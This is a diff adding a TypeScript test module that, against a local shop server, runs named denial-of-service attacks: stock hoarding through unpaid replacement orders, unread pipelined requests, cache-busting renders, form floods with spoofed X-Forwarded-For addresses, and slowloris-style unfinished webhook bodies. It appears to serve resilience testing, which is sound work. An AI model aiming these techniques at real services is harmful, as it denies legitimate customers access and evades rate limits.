@@ -1,0 +1,172 @@
+/** What one client does to the shop for as long as it runs. Each says when the part that needs time is done. */
+import { randomBytes } from 'node:crypto';
+import { Agent, request } from 'node:http';
+import { connect } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
+import { API_BASE } from '#contract/calls.ts';
+import { WEBHOOK_PATH } from '#server/payments/webhook.ts';
+import { orderBody } from '#tests/support/buying.ts';
+import { listProducts } from '../catalogue.ts';
+import { AddressedBrowser } from './addressed-browser.ts';
+
+export interface Target {
+  url: string;
+  /** To be called once the measurement may begin. */
+  ready: () => void;
+}
+
+const ATTACKER = '127.0.0.66';
+
+const PIPELINED_CONNECTIONS = 20;
+/** Together 1.3 MB. */
+const PIPELINED_BYTES = 65_000;
+const PIPELINED_PAUSE_MS = 3000;
+const RENDER_CONNECTIONS = 100;
+const LIST_CONNECTIONS = 400;
+const WEBHOOK_CONNECTIONS = 1500;
+/** One kilobyte short of what is announced. */
+const WEBHOOK_BYTES = 1_000_000;
+const ORDERS_TOTAL = 3100;
+const ENQUIRIES_TOTAL = 700;
+const FLOOD_CONNECTIONS = 20;
+/** Networks of /64 in a /56. */
+const NETWORKS = 256;
+
+export const ATTACKS = { holdStock, pipeline, render, spendTotals, openWebhooks, list };
+export type AttackName = keyof typeof ATTACKS;
+
+/** Everything there is in one order, again and again; two of its orders have been replaced unpaid before. */
+async function holdStock({ url, ready }: Target): Promise<void> {
+  const browser = new AddressedBrowser(url, { localAddress: ATTACKER });
+  let replaces: string | undefined;
+  let items: Record<number, number> = {};
+  const place = async () => {
+    const { status, body } = await browser.call('createOrder', {
+      body: orderBody(items, replaces === undefined ? {} : { replaces }),
+    });
+    if (status === 201) replaces = String(body.order_number);
+    return status === 201;
+  };
+  const shelf = async () => (await listProducts(url)).filter((each) => each.is_available && each.quantity > 0);
+  for (const { id } of (await shelf()).slice(0, 3)) {
+    items = { [id]: 1 };
+    await place();
+  }
+  for (let isHeld = false; ; ready()) {
+    if (!isHeld) items = Object.fromEntries((await shelf()).map(({ id, quantity }) => [id, quantity]));
+    isHeld = await place();
+    await sleep(1000);
+  }
+}
+
+/** Requests sent ahead on connections whose replies are never read. */
+async function pipeline({ url, ready }: Target): Promise<void> {
+  const head = `GET ${API_BASE}/products/ HTTP/1.1\r\nHost: ${new URL(url).host}\r\n\r\n`;
+  const requests = head.repeat(Math.ceil(PIPELINED_BYTES / head.length));
+  for (;;) {
+    for (let each = 0; each < PIPELINED_CONNECTIONS; each += 1) openUnread(url, [requests]);
+    ready();
+    await sleep(PIPELINED_PAUSE_MS);
+  }
+}
+
+/** Pages that no cache has. */
+async function render({ url, ready }: Target): Promise<void> {
+  ready();
+  await keepAsking(RENDER_CONNECTIONS, url, () => ({ path: `/shop?q=${randomBytes(6).toString('hex')}` }));
+}
+
+async function list({ url, ready }: Target): Promise<void> {
+  const sorts = ['price_asc', 'price_desc', 'name', 'newest'];
+  ready();
+  await keepAsking(LIST_CONNECTIONS, url, (count) => ({
+    path: `${API_BASE}/products/?sort=${sorts[count % sorts.length]}&page=${1 + (count % 3)}`,
+  }));
+}
+
+/** Bodies of two bytes from every network of one /56. */
+async function spendTotals({ url, ready }: Target): Promise<void> {
+  const address = (network: number) => `2001:db8:0:${(network % NETWORKS).toString(16)}::1`;
+  const browser = new AddressedBrowser(url, { forwardedFor: address(0) });
+  const token = String((await browser.call('getCsrfToken')).body.csrfToken);
+  const cookie = [...browser.cookies].map(([name, value]) => `${name}=${value}`).join('; ');
+  await keepAsking(
+    FLOOD_CONNECTIONS,
+    url,
+    (count) => {
+      if (count === ORDERS_TOTAL + ENQUIRIES_TOTAL) ready();
+      const isOrder = count < ORDERS_TOTAL || (count >= ORDERS_TOTAL + ENQUIRIES_TOTAL && count % 2 === 0);
+      return {
+        method: 'POST',
+        path: `${API_BASE}${isOrder ? '/orders/' : '/contact/submit/'}`,
+        body: '{}',
+        headers: {
+          cookie,
+          'x-csrftoken': token,
+          'content-type': 'application/json',
+          'x-forwarded-for': address(count),
+        },
+      };
+    },
+    { localAddress: '127.0.0.1' },
+  );
+}
+
+/** Unsigned webhooks whose last bytes never come. */
+async function openWebhooks({ url, ready }: Target): Promise<void> {
+  const head = `POST ${WEBHOOK_PATH} HTTP/1.1\r\nHost: ${new URL(url).host}\r\nContent-Type: application/json\r\nContent-Length: ${WEBHOOK_BYTES + 1000}\r\n\r\n`;
+  const body = Buffer.alloc(WEBHOOK_BYTES, ' ');
+  for (let open = 0; open < WEBHOOK_CONNECTIONS; open += 1) {
+    keepOpen(url, [head, body]);
+    if (open % 50 === 49) await sleep(50);
+  }
+  ready();
+  await sleep(2 ** 30);
+}
+
+interface Asked {
+  path: string;
+  method?: string;
+  body?: string;
+  headers?: Record<string, string>;
+}
+
+/** One request after the other on each of so many connections, for ever. */
+async function keepAsking(
+  connections: number,
+  url: string,
+  next: (count: number) => Asked,
+  { localAddress = ATTACKER }: { localAddress?: string } = {},
+): Promise<void> {
+  const agent = new Agent({ keepAlive: true, maxSockets: connections });
+  let count = 0;
+  const ask = async () => {
+    for (;;) {
+      const { path, method = 'GET', body, headers = {} } = next(count);
+      count += 1;
+      const isSent = await new Promise<boolean>((done) => {
+        const sent = request(new URL(path, url), { method, agent, headers, localAddress }, (response) => {
+          response.resume();
+          response.once('close', () => done(true));
+        });
+        sent.once('error', () => done(false));
+        sent.end(body);
+      });
+      if (!isSent) await sleep(100);
+    }
+  };
+  await Promise.all(Array.from({ length: connections }, ask));
+}
+
+/** Opened again whenever the shop closes it. */
+function keepOpen(url: string, parts: readonly (string | Buffer)[]): void {
+  openUnread(url, parts).once('close', () => setTimeout(() => keepOpen(url, parts), 1000));
+}
+
+/** Nothing is read from it, as nobody listens to its data. */
+function openUnread(url: string, parts: readonly (string | Buffer)[]) {
+  const socket = connect({ host: '127.0.0.1', port: Number(new URL(url).port), localAddress: ATTACKER });
+  socket.on('error', () => undefined);
+  for (const part of parts) socket.write(part);
+  return socket;
+}
